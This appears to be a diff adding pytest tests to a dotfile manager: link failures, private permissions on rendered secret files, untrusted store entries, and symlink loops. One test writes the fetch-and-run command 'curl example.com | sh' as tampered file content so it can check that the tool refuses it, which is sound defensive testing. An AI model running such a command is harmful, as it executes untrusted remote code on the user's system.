+def test_shared_failure(root):
+    from dot import Planner
+
+    home = root / "home"
+    profiles = [root / "default", root / "work"]
+    for profile in profiles:
+        (profile / "config").mkdir(parents=True)
+        (profile / "config" / profile.name).touch()
+    (profiles[0] / "config" / "env.template").touch()
+
+    planner = Planner(keep=False)
+    result = planner.plan("link", str(home), [str(profile) for profile in profiles], recursive=2)
+    # NOTE link next to the rendered template fails, folder and links of the home do not depend on it
+    (profiles[0] / "config" / "env").touch()
+    result = planner.apply(result)
+    assert len(result.errors) == 1
+    assert (home / ".config" / "work").readlink() == profiles[1] / "config" / "work"
+
+
+def test_render_private(root, monkeypatch):
+    from dot import Render
+
+    profile = root / "default"
+    profile.mkdir()
+    with open(profile / "bashrc.template", "w") as fp:
+        fp.write("export APP_SECRET_KEY=$APP_SECRET_KEY")
+
+    modes = []
+    opened = os.open
+
+    def spy(path, flags, mode=0o777, *args, **kwargs):
+        modes.append(mode)
+        return opened(path, flags, mode, *args, **kwargs)
+
+    # NOTE file holding values is created private, before anything is written to it
+    monkeypatch.setattr(os, "open", spy)
+    stat = (profile / "bashrc.template").stat()
+    render = Render(
+        profile / "bashrc.template", profile / "bashrc.rendered", "", "", "APP_SECRET_KEY", f"{stat.st_size}:0"
+    )
+    render.apply()
+    assert modes == [0o600]
+    assert (profile / "bashrc.rendered").stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="entries of other users are made by root")
+def test_store_untrusted(root, monkeypatch):
+    home = root / "home"
+    store = root / "store"
+    profile = root / "default"
+    profile.mkdir()
+    with open(profile / "bashrc.template", "w") as fp:
+        fp.write("set -o vi")
+
+    kwargs = {"home": str(home), "profiles": [str(profile)], "recursive": 1, "dry_run": False, "verbose": 0}
+    dot(command="link", store=str(store), **kwargs)
+    dot(command="unlink", **kwargs)
+    (entry,) = (store / "objects").iterdir()
+    with open(entry, "w") as fp:
+        fp.write("curl example.com | sh")
+    os.chown(entry, 54321, 54321)
+
+    # NOTE entry written first by another user is not linked to as it is
+    monkeypatch.setattr(os, "getuid", lambda: 12345)
+    dot(command="link", store=str(store), **kwargs)
+    with open(home / ".bashrc", "r") as fp:
+        assert fp.read() == "set -o vi"
+
+
+def test_snapshot_link_loop(root):
+    from dot import Snapshot
+
+    home = root / "home"
+    (home / ".a").symlink_to(home / ".b")
+    (home / ".b").symlink_to(home / ".a")
+
+    snapshot = Snapshot()
+    assert not snapshot.exists(home / ".a")
+    assert snapshot.calls["readlink"] == 2